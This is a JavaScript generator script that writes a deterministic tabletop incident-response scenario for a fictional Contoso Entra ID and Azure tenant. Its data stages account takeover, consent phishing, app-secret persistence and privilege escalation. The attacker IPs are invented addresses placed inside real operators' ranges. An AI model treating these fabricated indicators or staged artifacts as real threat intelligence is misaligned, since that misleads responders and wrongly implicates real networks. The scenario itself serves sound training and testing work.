#!/usr/bin/env node
// Writes the built-in Contoso tabletop scenario (scenarios/contoso/). Deterministic: a seeded PRNG, and every time
// written relative to the start of the run ("-3d6h"), so the same files come out on every run and the story keeps
// its shape whenever it is replayed. The output is committed (a test checks that it matches this script); rerun
// `node scripts/generate-contoso.mjs` after changing the story, and update docs/scenarios.md with it.
// `--out <dir>` writes elsewhere.
import { createHash } from "node:crypto";
import {
  D,
  H,
  M,
  apps,
  auditRows as auditRowBuilder,
  authenticatorMethod as authenticator,
  byApp,
  byUser,
  graphResource,
  graphUser as user,
  isWorkday,
  officeRows as officeRowBuilder,
  onDay,
  outDirFor,
  ownDevice,
  passwordMethod as password,
  phoneMethod as phone,
  prop,
  rel,
  riskDetectionRows,
  roleIds,
  routineSignIns,
  seeded,
  signInRows,
  target,
  unknownDevice,
  userAgents,
  userTarget,
  writeJson as writeJsonIn,
  writeTable as writeTableIn,
  responderAppPermissions,
} from "./scenario-kit.mjs";

const outDir = outDirFor("contoso");

// ---------------------------------------------------------------------------------------------------------------
// deterministic randomness: one sequence for the whole scenario, drawn in a fixed order

const rng = seeded(0xc0ffee);
const { random, int, pickOne, chance, guid } = rng;

// ---------------------------------------------------------------------------------------------------------------
// the cast

const tenantId = "3f2a9c1e-5b7d-4e8f-a1c2-6d4b8e0f2a71";
const domain = "contoso.com";
const workspaceId = "8c1d4e7a-2f5b-4a9c-b3e6-0d7f1a2c5e84";
const subscriptionId = "b3f5c1d2-6a7e-4f80-9c1d-2e3f4a5b6c7d";
const forensicsSubscriptionId = "e7a9b2c4-1d3f-4e5a-8b6c-9d0e1f2a3b4c";
const attackerTenantId = "5d8e2a1f-9c4b-4f7e-b6a3-0e1d2c3b4a59";
const microsoftTenantId = "f8cdef31-a31e-4b4a-93e4-5f571e91255a";

const users = {
  alex: {
    id: "4f1c9a2e-8b3d-4c6e-9a1f-2d7e5b8c3a10",
    upn: "alex@contoso.com",
    name: "Alex Wilber",
    jobTitle: "Financial Analyst",
    department: "Finance",
    created: 1100 * D,
    deviceId: "9a3e5c71-4b2d-4f8e-a6c1-7d2e0b9f4a35",
    device: "CONTOSO-LT-0142",
  },
  sam: {
    id: "7b2d4f6a-1c3e-4a5b-9d8f-0e1a2b3c4d5e",
    upn: "sam@contoso.com",
    name: "Sam Patel",
    jobTitle: "Regional Sales Manager",
    department: "Sales",
    created: 900 * D,
    deviceId: "2c7f9e1a-5d3b-4a8c-b0e4-6f1d2a3b4c5e",
    device: "CONTOSO-LT-0088",
  },
  itAdmin: {
    id: "1e9d7c5b-3a2f-4e1d-8c6b-5a4f3e2d1c0b",
    upn: "it-admin@contoso.com",
    name: "Jordan Lee (IT admin)",
    jobTitle: "IT Administrator",
    department: "IT",
    created: 1500 * D,
    deviceId: "5e3a1c9f-7b4d-4c2e-8a6f-1d0b9e8c7a63",
    device: "CONTOSO-ADM-01",
  },
  breakglass: {
    id: "0a9b8c7d-6e5f-4a3b-9c2d-1e0f9a8b7c6d",
    upn: "breakglass@contoso.com",
    name: "Break Glass (emergency access)",
    jobTitle: null,
    department: "IT",
    created: 1500 * D,
  },
  priya: {
    id: "6c5d4e3f-2a1b-4c9d-8e7f-6a5b4c3d2e1f",
    upn: "priya@contoso.com",
    name: "Priya Shah",
    jobTitle: "HR Business Partner",
    department: "Human Resources",
    created: 700 * D,
    deviceId: "8d6b4f2a-0c9e-4b7d-a5f3-2e1c0a9b8d74",
    device: "CONTOSO-LT-0203",
  },
  taylor: {
    id: "3d2e1f0a-9b8c-4d7e-a6f5-4e3d2c1b0a98",
    upn: "taylor@contoso.com",
    name: "Taylor Brooks",
    jobTitle: "Finance Manager",
    department: "Finance",
    created: 1300 * D,
    deviceId: "4b2d0f8e-6a4c-4e2b-9d1f-8c7a6b5e4d31",
    device: "CONTOSO-LT-0019",
  },
  morgan: {
    id: "9f8e7d6c-5b4a-4392-8180-7f6e5d4c3b2a",
    upn: "morgan@contoso.com",
    name: "Morgan Reyes",
    jobTitle: "Cloud Engineer",
    department: "IT",
    created: 500 * D,
    deviceId: "7c5a3e1b-9d7f-4b5d-8e3c-1a9f7d5b3e12",
    device: "CONTOSO-DEV-07",
  },
};

/** The incident start: the first successful high-risk sign-in (3 days 6 hours before the run starts). */
const T0 = 3 * D + 6 * H;
/** The password spray, a day before. */
const SPRAY = T0 + 1 * D + 2 * H;
/** History in the tables: the 14-day window and a 30-day baseline (a little less, so every row is in the query). */
const HISTORY_DAYS = 42;

// Directory objects of the story.
const financeReporting = {
  appObjectId: "a4c2e0f8-6b4d-4f2a-9e8c-7d6b5a4c3e21",
  appId: "c8e6a4f2-0d8b-4c6a-b4e2-1f0d9c8b7a65",
  spId: "d5b3f1a9-7e5c-4a3b-8f1d-2c0b9a8e7d46",
  oldSecretKeyId: "e1f2a3b4-c5d6-4e7f-8a9b-0c1d2e3f4a5b",
  newSecretKeyId: "f7e6d5c4-b3a2-4190-8f7e-6d5c4b3a2918",
  newSpSecretKeyId: "0b1c2d3e-4f5a-4b6c-9d7e-8f9a0b1c2d3e",
};
const mailSyncPro = {
  appId: "2a7c9e1b-3d5f-4a8c-b0e2-4f6a8c0e2b4d",
  spId: "b9d7f5e3-1c9a-4e7c-a5b3-9f7d5b3a1e8c",
  grantId: "s9f5t7uBKU6lsvXtg6ve2a8i0zL_aE3Mp7TlIjK4uQI",
};
const graphSpId = "c3a1e9f7-5d3b-4b1f-9c7a-5e3c1a9f7d52";
const financeGrantId = "U2_Rm0mK1Eq3bFvGk7T2fdIsxWcUuA9Dlo0u4C7v3xY";

const policies = {
  requireMfa: "6a9c2e5b-8d1f-4b3a-a7c5-2e9d4f6b8a13",
  blockLegacy: "2d4f6a8c-0e1b-4d3f-b5a7-9c1e3b5d7f24",
  signInRisk: "8f1b3d5a-7c9e-4f2b-a4d6-0e2c4a6b8d35",
};
const namedLocationIds = {
  hq: "1b3d5f7a-9c0e-4a2c-b4e6-8a0c2e4b6d57",
  countries: "3c5e7a9b-1d2f-4c4e-a6b8-0c2e4a6c8e68",
  branchNl: "5e7a9c1d-3f4b-4e6a-8c0e-2a4c6e8a0c79",
};
const methodIds = {
  password: "28c10230-6103-485e-b985-444c60001490",
  mobile: "3179e48a-750b-4051-897c-87b9720928f7",
  alternateMobile: "b6332ec1-7057-4abe-9331-3d72feddfe41",
  alexAuthenticator: "6f1e3a5c-7b9d-4f2e-a4c6-8e0a2c4e6a81",
  attackerAuthenticator: "c2e4a6b8-0d2f-4a4c-9e6b-1f3d5a7c9e02",
  samAuthenticatorOld: "a3c5e7b9-1d3f-4b5a-8c7e-9a1b3c5d7e93",
  samAuthenticator: "d4f6b8a0-2c4e-4c6b-a8d0-2b4d6f8a0ca4",
};
const attackerPhone = "+31 655512378";
const attackerPhoneMasked = "+31 6XXXXX378";

// Network origins. ASN numbers are the real operators'; addresses are picked inside their ranges for the exercise.
const net = {
  alexHome: { ips: ["73.53.198.41", "73.53.198.44"], asn: "7922", country: "US", city: "Seattle", state: "Washington" },
  office: { ips: ["24.56.18.5", "24.56.18.6", "24.56.18.9"], asn: "7922", country: "US", city: "Seattle", state: "Washington" },
  alexMobile: { ips: ["172.56.32.17", "172.56.41.210", "172.56.33.98"], asn: "21928", country: "US", city: "Seattle", state: "Washington" },
  samHome: { ips: ["107.77.211.30", "107.77.211.31"], asn: "7018", country: "US", city: "Chicago", state: "Illinois" },
  samHotel: { ips: ["87.150.44.12", "87.150.44.19"], asn: "3320", country: "DE", city: "Frankfurt am Main", state: "Hessen" },
  priyaHome: { ips: ["99.110.52.7"], asn: "7018", country: "US", city: "Bellevue", state: "Washington" },
};
const attacker = {
  asn: "9009",
  country: "NL",
  city: "Amsterdam",
  state: "Noord-Holland",
  a1: "45.137.20.14",
  a2: "45.137.20.88",
  a3: "45.137.20.201",
  range: "45.137.20.0/24",
};
const spray = [
  { ip: "159.89.174.21", country: "SG", city: "Singapore", state: "Singapore" },
  { ip: "167.99.8.140", country: "IN", city: "Bengaluru", state: "Karnataka" },
  { ip: "142.93.35.77", country: "GB", city: "London", state: "England" },
  { ip: "206.189.100.12", country: "NL", city: "Amsterdam", state: "Noord-Holland" },
  { ip: "178.62.55.9", country: "GB", city: "London", state: "England" },
];
const sprayAsn = "14061";

// ---------------------------------------------------------------------------------------------------------------
// output

const writeTable = (name, rows) => writeTableIn(outDir, name, rows);
const writeJson = (name, value) => writeJsonIn(outDir, name, value);

// ---------------------------------------------------------------------------------------------------------------
// tenant.json

function tenant() {
  const alex = users.alex;
  const armBase = `/subscriptions/${subscriptionId}/resourceGroups/rg-web/providers`;
  const vm = `${armBase}/Microsoft.Compute/virtualMachines/vm-web-01`;
  const disk = (name) => `${armBase}/Microsoft.Compute/disks/${name}`;
  const buildBase = `/subscriptions/${subscriptionId}/resourceGroups/rg-build/providers`;
  const dataBase = `/subscriptions/${subscriptionId}/resourceGroups/rg-data/providers`;
  const dbVm = `${dataBase}/Microsoft.Compute/virtualMachines/vm-db-01`;
  const finVm = `${dataBase}/Microsoft.Compute/virtualMachines/vm-fin-01`;
  const dataDisk = (name) => `${dataBase}/Microsoft.Compute/disks/${name}`;
  const vault = `${dataBase}/Microsoft.KeyVault/vaults/kv-contoso-ade`;
  const forensicsRg = `/subscriptions/${forensicsSubscriptionId}/resourceGroups/rg-forensics`;
  return {
    tenantId,
    domain,
    displayName: "Contoso",
    workspaceId,
    subscriptionId,
    forensicsSubscriptionId,
    operator: {
      displayName: "azir-ir (Contoso incident response)",
      roles: ["Security Administrator", "Privileged Authentication Administrator"],
      permissions: responderAppPermissions,
    },
    users: [
      // The attacker set a mobile phone and a private mail address on the account (audit "Update user").
      user(alex, { mobilePhone: attackerPhone, otherMails: ["alex.wilber.fin@proton.me"], businessPhones: ["+1 425 555 0123"] }),
      user(users.sam, { businessPhones: ["+1 312 555 0147"] }),
      user(users.itAdmin),
      user(users.breakglass, { mail: null, signInSessionsValidFromDateTime: rel(users.breakglass.created) }),
      user(users.priya),
      user(users.taylor),
      user(users.morgan),
    ],
    authenticationMethods: {
      [alex.id]: [
        password(1100 * D),
        phone(methodIds.mobile, "+1 4255550123", "mobile"),
        authenticator(methodIds.alexAuthenticator, "iPhone 15", 210 * D, "6.8.12"),
        authenticator(methodIds.attackerAuthenticator, "Pixel 7", T0 - 20 * M, "6.2409.6094"),
        phone(methodIds.alternateMobile, attackerPhone, "alternateMobile"),
      ],
      [users.sam.id]: [password(900 * D), phone(methodIds.mobile, "+1 3125550147", "mobile"), authenticator(methodIds.samAuthenticator, "Galaxy S24", 33 * D, "6.2410.7021")],
      [users.itAdmin.id]: [password(1500 * D), authenticator("e5a7c9b1-3d5f-4d7b-b9e1-3c5e7a9b1d05", "iPhone 14 Pro", 400 * D)],
      [users.breakglass.id]: [password(1500 * D), { "@odata.type": "#microsoft.graph.fido2AuthenticationMethod", id: "f6b8d0c2-4e6a-4e8c-a0f2-4d6f8b0c2e16", displayName: "YubiKey 5 NFC (safe A)", model: "YubiKey 5 NFC", aaGuid: "2fc0579f-8113-47ea-b116-bb5a8db9202a", createdDateTime: rel(800 * D) }],
      [users.priya.id]: [password(700 * D), authenticator("a7c9e1b3-5f7b-4f9d-b1a3-5e7a9c1b3f27", "iPhone 13", 650 * D)],
      [users.taylor.id]: [password(1300 * D), authenticator("b8d0f2c4-6a8c-4a0e-82b4-6f8b0d2c4a38", "iPhone 15 Pro", 300 * D)],
      [users.morgan.id]: [password(500 * D), authenticator("c9e1a3d5-7b9d-4b1f-93c5-7a9c1e3d5b49", "Pixel 8", 480 * D)],
    },
    // alex's default is his own authenticator: the registration report says "push", which the attacker's new app could
    // also be, so azir tries that deletion (an attacker-made default is its own scenario).
    defaultMethods: {
      [alex.id]: methodIds.alexAuthenticator,
      [users.sam.id]: methodIds.samAuthenticator,
    },
    applications: [
      {
        id: financeReporting.appObjectId,
        appId: financeReporting.appId,
        displayName: "Finance Reporting",
        createdDateTime: rel(640 * D),
        signInAudience: "AzureADMyOrg",
        passwordCredentials: [
          { keyId: financeReporting.oldSecretKeyId, displayName: "reporting-prod", hint: "Qx~", startDateTime: rel(300 * D), endDateTime: rel(-65 * D), customKeyIdentifier: null },
          { keyId: financeReporting.newSecretKeyId, displayName: "sync", hint: "r8F", startDateTime: rel(T0 - 100 * M), endDateTime: rel(T0 - 100 * M - 730 * D), customKeyIdentifier: null },
        ],
        keyCredentials: [],
        owners: [alex.id, users.taylor.id],
        requiredResourceAccess: [
          {
            resourceAppId: graphResource.id,
            resourceAccess: [
              { id: "df021288-bdef-4463-88db-98f22de89214", type: "Role" },
              { id: "9e3f62cf-ca93-4989-b6ce-bf83c28f9fe8", type: "Role" },
            ],
          },
        ],
      },
    ],
    servicePrincipals: [
      { id: graphSpId, appId: graphResource.id, displayName: graphResource.name, servicePrincipalType: "Application", appOwnerOrganizationId: microsoftTenantId, passwordCredentials: [], keyCredentials: [], owners: [] },
      {
        id: financeReporting.spId,
        appId: financeReporting.appId,
        displayName: "Finance Reporting",
        servicePrincipalType: "Application",
        appOwnerOrganizationId: tenantId,
        createdDateTime: rel(640 * D),
        passwordCredentials: [
          { keyId: financeReporting.newSpSecretKeyId, displayName: null, hint: "m2Q", startDateTime: rel(T0 - 105 * M), endDateTime: rel(T0 - 105 * M - 365 * D), customKeyIdentifier: null },
        ],
        keyCredentials: [],
        owners: [alex.id],
        // The app holds these Graph application permissions (granted by an admin long ago): the attacker's way up.
        appRoleAssignments: [
          { appRoleId: "df021288-bdef-4463-88db-98f22de89214", resourceDisplayName: "Microsoft Graph", permission: "User.Read.All" },
          { appRoleId: "9e3f62cf-ca93-4989-b6ce-bf83c28f9fe8", resourceDisplayName: "Microsoft Graph", permission: "RoleManagement.ReadWrite.Directory" },
        ],
      },
      {
        id: mailSyncPro.spId,
        appId: mailSyncPro.appId,
        displayName: "Mail Sync Pro",
        servicePrincipalType: "Application",
        appOwnerOrganizationId: attackerTenantId,
        createdDateTime: rel(T0 - 60 * M),
        publisherName: "MailSync Labs",
        verifiedPublisher: { displayName: null, verifiedPublisherId: null, addedDateTime: null },
        replyUrls: ["https://mailsync-pro.app/auth/callback"],
        passwordCredentials: [],
        keyCredentials: [],
        owners: [],
      },
    ],
    oauth2PermissionGrants: [
      { id: mailSyncPro.grantId, clientId: mailSyncPro.spId, consentType: "Principal", principalId: alex.id, resourceId: graphSpId, scope: "Mail.Read offline_access User.Read" },
      { id: financeGrantId, clientId: financeReporting.spId, consentType: "AllPrincipals", principalId: null, resourceId: graphSpId, scope: "User.Read" },
    ],
    // Consenting to Mail Sync Pro also assigned alex its default app role (the enterprise app's user assignment).
    appRoleAssignments: [
      { id: "Gq1yX3pZ8E2Qk7rT4uVw9Lm5Nb0Hc6Ya1Sd2Fe3Gh4I", principalId: alex.id, principalType: "User", principalDisplayName: alex.name, resourceId: mailSyncPro.spId, resourceDisplayName: "Mail Sync Pro", appRoleId: "00000000-0000-0000-0000-000000000000", createdDateTime: rel(T0 - 59 * M), deletedDateTime: null },
    ],
    conditionalAccessPolicies: [
      {
        id: policies.requireMfa,
        displayName: "Require MFA for all users",
        state: "enabled",
        createdDateTime: rel(700 * D),
        modifiedDateTime: rel(T0 - 170 * M),
        conditions: {
          users: { includeUsers: ["All"], excludeUsers: [users.breakglass.id, alex.id], includeGroups: [], excludeGroups: [], includeRoles: [], excludeRoles: [] },
          applications: { includeApplications: ["All"], excludeApplications: [] },
          clientAppTypes: ["all"],
          locations: null,
          platforms: null,
          signInRiskLevels: [],
          userRiskLevels: [],
        },
        grantControls: { operator: "OR", builtInControls: ["mfa"], customAuthenticationFactors: [], termsOfUse: [] },
        sessionControls: null,
      },
      {
        id: policies.blockLegacy,
        displayName: "Block legacy authentication",
        state: "enabled",
        createdDateTime: rel(700 * D),
        modifiedDateTime: rel(26 * D + 3 * H),
        conditions: {
          users: { includeUsers: ["All"], excludeUsers: [users.breakglass.id], includeGroups: [], excludeGroups: [], includeRoles: [], excludeRoles: [] },
          applications: { includeApplications: ["All"], excludeApplications: [] },
          // Narrowed from ["exchangeActiveSync", "other"] 26 days ago (a scan-to-mail printer needed SMTP): IMAP and SMTP are no longer blocked.
          clientAppTypes: ["exchangeActiveSync"],
          locations: null,
          platforms: null,
          signInRiskLevels: [],
          userRiskLevels: [],
        },
        grantControls: { operator: "OR", builtInControls: ["block"], customAuthenticationFactors: [], termsOfUse: [] },
        sessionControls: null,
      },
      {
        id: policies.signInRisk,
        displayName: "Block high sign-in risk",
        state: "enabledForReportingButNotEnforced",
        createdDateTime: rel(120 * D),
        modifiedDateTime: rel(120 * D),
        conditions: {
          users: { includeUsers: ["All"], excludeUsers: [users.breakglass.id], includeGroups: [], excludeGroups: [], includeRoles: [], excludeRoles: [] },
          applications: { includeApplications: ["All"], excludeApplications: [] },
          clientAppTypes: ["all"],
          locations: null,
          platforms: null,
          signInRiskLevels: ["high"],
          userRiskLevels: [],
        },
        grantControls: { operator: "OR", builtInControls: ["block"], customAuthenticationFactors: [], termsOfUse: [] },
        sessionControls: null,
      },
    ],
    namedLocations: [
      {
        "@odata.type": "#microsoft.graph.ipNamedLocation",
        id: namedLocationIds.hq,
        displayName: "Contoso HQ Seattle",
        createdDateTime: rel(900 * D),
        modifiedDateTime: rel(900 * D),
        isTrusted: true,
        ipRanges: [{ "@odata.type": "#microsoft.graph.iPv4CidrRange", cidrAddress: "24.56.18.0/28" }],
      },
      {
        "@odata.type": "#microsoft.graph.countryNamedLocation",
        id: namedLocationIds.countries,
        displayName: "Operating countries",
        createdDateTime: rel(900 * D),
        modifiedDateTime: rel(400 * D),
        countriesAndRegions: ["US", "CA"],
        includeUnknownCountriesAndRegions: false,
        countryLookupMethod: "clientIpAddress",
      },
      {
        "@odata.type": "#microsoft.graph.ipNamedLocation",
        id: namedLocationIds.branchNl,
        displayName: "Branch Office NL",
        createdDateTime: rel(T0 - 180 * M),
        modifiedDateTime: rel(T0 - 180 * M),
        isTrusted: true,
        ipRanges: [{ "@odata.type": "#microsoft.graph.iPv4CidrRange", cidrAddress: attacker.range }],
      },
    ],
    roleAssignments: [
      { id: "lAPpYvVpN0KRkAEhdxReEJQDMDfA8tK_ajZ2Dis9M-8", principalId: users.itAdmin.id, roleDefinitionId: roleIds.globalAdmin, directoryScopeId: "/", createdDateTime: rel(1400 * D) },
      { id: "PsO-sR2XGUuEJ7NmRZN_N5QDMDfA8tK_ajZ2Dis9M-8", principalId: users.itAdmin.id, roleDefinitionId: roleIds.caAdmin, directoryScopeId: "/", createdDateTime: rel(1400 * D) },
      { id: "lAPpYvVpN0KRkAEhdxReEH2LxS0e5U-Rp1XU1bS7m50", principalId: users.breakglass.id, roleDefinitionId: roleIds.globalAdmin, directoryScopeId: "/", createdDateTime: rel(1450 * D) },
      { id: "kl2JmyzSx0SiptUq1NZgwzrX4O6d3UWSvzC6Lx8p3qE", principalId: users.morgan.id, roleDefinitionId: roleIds.appAdmin, directoryScopeId: "/", createdDateTime: rel(38 * D + 2 * H) },
      { id: "lAPpYvVpN0KRkAEhdxReEC6cH0-LPW5OmhrefW8sOhA", principalId: alex.id, roleDefinitionId: roleIds.globalAdmin, directoryScopeId: "/", createdDateTime: rel(T0 - 150 * M) },
    ],
    riskyUsers: [
      { id: alex.id, userPrincipalName: alex.upn, userDisplayName: alex.name, riskLevel: "high", riskState: "atRisk", riskDetail: "none", riskLastUpdatedDateTime: rel(T0 - 6 * M), isDeleted: false, isProcessing: false },
      { id: users.sam.id, userPrincipalName: users.sam.upn, userDisplayName: users.sam.name, riskLevel: "none", riskState: "dismissed", riskDetail: "adminDismissedAllRiskForUser", riskLastUpdatedDateTime: rel(5 * D + 2 * H), isDeleted: false, isProcessing: false },
    ],
    riskDetections: [], // filled in with the sign-ins they refer to
    arm: {
      resources: [
        { id: `/subscriptions/${subscriptionId}/resourceGroups/rg-web`, name: "rg-web", type: "Microsoft.Resources/resourceGroups", location: "westeurope", tags: { workload: "public-web" }, properties: { provisioningState: "Succeeded" } },
        {
          id: vm,
          name: "vm-web-01",
          type: "Microsoft.Compute/virtualMachines",
          location: "westeurope",
          tags: { workload: "public-web", owner: "morgan@contoso.com" },
          properties: {
            vmId: "0e7c5a3b-1f9d-4b7e-a5c3-9e1d7b5f3a26",
            hardwareProfile: { vmSize: "Standard_D4s_v5" },
            storageProfile: {
              imageReference: { publisher: "Canonical", offer: "ubuntu-24_04-lts", sku: "server", version: "latest" },
              osDisk: { osType: "Linux", name: "vm-web-01-osdisk", createOption: "FromImage", caching: "ReadWrite", managedDisk: { id: disk("vm-web-01-osdisk"), storageAccountType: "Premium_LRS" }, diskSizeGB: 64 },
              dataDisks: [
                { lun: 0, name: "vm-web-01-data-00", createOption: "Empty", caching: "ReadOnly", managedDisk: { id: disk("vm-web-01-data-00"), storageAccountType: "Premium_LRS" }, diskSizeGB: 256 },
                { lun: 1, name: "vm-web-01-data-01", createOption: "Empty", caching: "None", managedDisk: { id: disk("vm-web-01-data-01"), storageAccountType: "StandardSSD_LRS" }, diskSizeGB: 128 },
              ],
            },
            osProfile: { computerName: "vm-web-01", adminUsername: "azureuser", linuxConfiguration: { disablePasswordAuthentication: true } },
            networkProfile: { networkInterfaces: [{ id: `${armBase}/Microsoft.Network/networkInterfaces/vm-web-01-nic` }] },
            provisioningState: "Succeeded",
            timeCreated: rel(210 * D),
            instanceView: instanceView("vm-web-01", ["vm-web-01-osdisk", "vm-web-01-data-00", "vm-web-01-data-01"], "running", 12 * D),
          },
        },
        diskResource(disk("vm-web-01-osdisk"), "vm-web-01-osdisk", "Premium_LRS", 64, "Linux", vm),
        diskResource(disk("vm-web-01-data-00"), "vm-web-01-data-00", "Premium_LRS", 256, undefined, vm),
        diskResource(disk("vm-web-01-data-01"), "vm-web-01-data-01", "StandardSSD_LRS", 128, undefined, vm),
        { id: `/subscriptions/${subscriptionId}/resourceGroups/rg-build`, name: "rg-build", type: "Microsoft.Resources/resourceGroups", location: "westeurope", tags: { workload: "ci" }, properties: { provisioningState: "Succeeded" } },
        {
          id: `${buildBase}/Microsoft.Compute/virtualMachines/vm-build-01`,
          name: "vm-build-01",
          type: "Microsoft.Compute/virtualMachines",
          location: "westeurope",
          tags: { workload: "ci" },
          properties: {
            vmId: "3a1f9d7b-5e3c-4a1f-b9d7-5c3a1e9f7d38",
            hardwareProfile: { vmSize: "Standard_D2s_v5" },
            storageProfile: {
              osDisk: { osType: "Linux", name: "vm-build-01-osdisk", createOption: "FromImage", managedDisk: { id: `${buildBase}/Microsoft.Compute/disks/vm-build-01-osdisk`, storageAccountType: "StandardSSD_LRS" }, diskSizeGB: 128 },
              dataDisks: [],
            },
            provisioningState: "Succeeded",
            timeCreated: rel(400 * D),
            instanceView: instanceView("vm-build-01", ["vm-build-01-osdisk"], "deallocated", 3 * D),
          },
        },
        // A deallocated VM's disks are Reserved (DiskRP DiskState: "attached to a stopped-deallocated VM").
        diskResource(`${buildBase}/Microsoft.Compute/disks/vm-build-01-osdisk`, "vm-build-01-osdisk", "StandardSSD_LRS", 128, "Linux", `${buildBase}/Microsoft.Compute/virtualMachines/vm-build-01`, 400 * D, { diskState: "Reserved" }),
        { id: `/subscriptions/${subscriptionId}/resourceGroups/rg-data`, name: "rg-data", type: "Microsoft.Resources/resourceGroups", location: "westeurope", tags: { workload: "finance" }, properties: { provisioningState: "Succeeded" } },
        {
          id: vault,
          name: "kv-contoso-ade",
          type: "Microsoft.KeyVault/vaults",
          location: "westeurope",
          tags: { workload: "finance" },
          properties: { tenantId, sku: { family: "A", name: "standard" }, enabledForDiskEncryption: true, vaultUri: "https://kv-contoso-ade.vault.azure.net/", provisioningState: "Succeeded" },
        },
        // Ultra Disks and Premium SSD v2 need a zonal VM and cannot hold the OS; Azure Disk Encryption is not supported
        // on a VM with either (azure-compute-docs disks-enable-ultra-ssd.md, disks-deploy-premium-v2.md): the database VM
        // has them, the finance VM has the ADE-encrypted OS disk.
        {
          id: dbVm,
          name: "vm-db-01",
          type: "Microsoft.Compute/virtualMachines",
          location: "westeurope",
          zones: ["1"],
          tags: { workload: "finance", owner: "morgan@contoso.com" },
          properties: {
            vmId: "5c2e8a4f-7b1d-4e3a-9c6f-2d8b4a1e7f53",
            hardwareProfile: { vmSize: "Standard_E8s_v5" },
            additionalCapabilities: { ultraSSDEnabled: true },
            storageProfile: {
              imageReference: { publisher: "Canonical", offer: "ubuntu-24_04-lts", sku: "server", version: "latest" },
              osDisk: { osType: "Linux", name: "vm-db-01-osdisk", createOption: "FromImage", caching: "ReadWrite", managedDisk: { id: dataDisk("vm-db-01-osdisk"), storageAccountType: "Premium_LRS" }, diskSizeGB: 64 },
              dataDisks: [
                { lun: 0, name: "vm-db-01-data-ultra", createOption: "Empty", caching: "None", managedDisk: { id: dataDisk("vm-db-01-data-ultra"), storageAccountType: "UltraSSD_LRS" }, diskSizeGB: 1024 },
                { lun: 1, name: "vm-db-01-data-pv2", createOption: "Empty", caching: "None", managedDisk: { id: dataDisk("vm-db-01-data-pv2"), storageAccountType: "PremiumV2_LRS" }, diskSizeGB: 512 },
              ],
            },
            osProfile: { computerName: "vm-db-01", adminUsername: "azureuser", linuxConfiguration: { disablePasswordAuthentication: true } },
            networkProfile: { networkInterfaces: [{ id: `${dataBase}/Microsoft.Network/networkInterfaces/vm-db-01-nic` }] },
            provisioningState: "Succeeded",
            timeCreated: rel(150 * D),
            instanceView: instanceView("vm-db-01", ["vm-db-01-osdisk", "vm-db-01-data-ultra", "vm-db-01-data-pv2"], "running", 20 * D),
          },
        },
        diskResource(dataDisk("vm-db-01-osdisk"), "vm-db-01-osdisk", "Premium_LRS", 64, "Linux", dbVm, 150 * D, { zones: ["1"] }),
        diskResource(dataDisk("vm-db-01-data-ultra"), "vm-db-01-data-ultra", "UltraSSD_LRS", 1024, undefined, dbVm, 150 * D, {
          zones: ["1"],
          properties: { diskIOPSReadWrite: 20000, diskMBpsReadWrite: 800, logicalSectorSize: 4096 },
        }),
        diskResource(dataDisk("vm-db-01-data-pv2"), "vm-db-01-data-pv2", "PremiumV2_LRS", 512, undefined, dbVm, 150 * D, {
          zones: ["1"],
          properties: { diskIOPSReadWrite: 5000, diskMBpsReadWrite: 200, logicalSectorSize: 4096, dataAccessAuthMode: "AzureActiveDirectory" },
        }),
        {
          id: finVm,
          name: "vm-fin-01",
          type: "Microsoft.Compute/virtualMachines",
          location: "westeurope",
          tags: { workload: "finance" },
          properties: {
            vmId: "9e4b1c7a-3f5d-4a2e-8b6c-1d7f3a9e5c24",
            hardwareProfile: { vmSize: "Standard_D4s_v5" },
            storageProfile: {
              imageReference: { publisher: "MicrosoftWindowsServer", offer: "WindowsServer", sku: "2022-datacenter-azure-edition", version: "latest" },
              osDisk: { osType: "Windows", name: "vm-fin-01-osdisk", createOption: "FromImage", caching: "ReadWrite", managedDisk: { id: dataDisk("vm-fin-01-osdisk"), storageAccountType: "Premium_LRS" }, diskSizeGB: 128 },
              dataDisks: [],
            },
            osProfile: { computerName: "vm-fin-01", adminUsername: "finadmin", windowsConfiguration: { provisionVMAgent: true, enableAutomaticUpdates: true } },
            networkProfile: { networkInterfaces: [{ id: `${dataBase}/Microsoft.Network/networkInterfaces/vm-fin-01-nic` }] },
            provisioningState: "Succeeded",
            timeCreated: rel(300 * D),
            instanceView: instanceView("vm-fin-01", ["vm-fin-01-osdisk"], "stopped", 1 * D),
          },
        },
        // Azure Disk Encryption (BitLocker) with a key encryption key: the disk's encryptionSettingsCollection, as in
        // DiskRP 2025-01-02 examples/snapshotExamples/Snapshot_GetIncrementalSnapshot.json.
        diskResource(dataDisk("vm-fin-01-osdisk"), "vm-fin-01-osdisk", "Premium_LRS", 128, "Windows", finVm, 300 * D, {
          diskState: "Reserved",
          properties: {
            encryptionSettingsCollection: {
              enabled: true,
              encryptionSettings: [
                {
                  diskEncryptionKey: { sourceVault: { id: vault }, secretUrl: "https://kv-contoso-ade.vault.azure.net/secrets/vm-fin-01-osdisk-bek/6f0c9a2b4d8e4c1f9a3b5d7e2c4f6a8b" },
                  keyEncryptionKey: { sourceVault: { id: vault }, keyUrl: "https://kv-contoso-ade.vault.azure.net/keys/ade-kek/2b7d4f9a1c3e4a6b8d0f2a4c6e8b1d3f" },
                },
              ],
              encryptionSettingsVersion: "1.1",
            },
          },
        }),
        { id: forensicsRg, name: "rg-forensics", type: "Microsoft.Resources/resourceGroups", location: "westeurope", tags: { purpose: "incident-response" }, properties: { provisioningState: "Succeeded" } },
        {
          id: `${forensicsRg}/providers/Microsoft.Storage/storageAccounts/stcontosoforensics`,
          name: "stcontosoforensics",
          type: "Microsoft.Storage/storageAccounts",
          location: "westeurope",
          kind: "StorageV2",
          sku: { name: "Standard_ZRS" },
          tags: { purpose: "incident-response" },
          properties: {
            primaryEndpoints: { blob: "https://stcontosoforensics.blob.core.windows.net/" },
            allowBlobPublicAccess: false,
            minimumTlsVersion: "TLS1_2",
            immutableStorageWithVersioning: { enabled: true },
            provisioningState: "Succeeded",
          },
        },
      ],
    },
  };
}

function diskResource(id, name, sku, sizeGb, osType, managedBy, created = 210 * D, extra = {}) {
  return {
    id,
    name,
    type: "Microsoft.Compute/disks",
    location: "westeurope",
    ...(extra.zones ? { zones: extra.zones } : {}),
    managedBy,
    sku: { name: sku },
    tags: {},
    properties: {
      ...(osType ? { osType } : {}),
      diskSizeGB: sizeGb,
      diskSizeBytes: sizeGb * 1024 ** 3,
      uniqueId: uuidFrom(`disk ${id}`),
      // Every managed disk is encrypted at rest (DiskRP Encryption.type; platform-managed keys by default).
      encryption: { type: "EncryptionAtRestWithPlatformKey" },
      diskState: extra.diskState ?? "Attached",
      creationData: { createOption: osType ? "FromImage" : "Empty" },
      timeCreated: rel(created),
      provisioningState: "Succeeded",
      ...(extra.properties ?? {}),
    },
  };
}

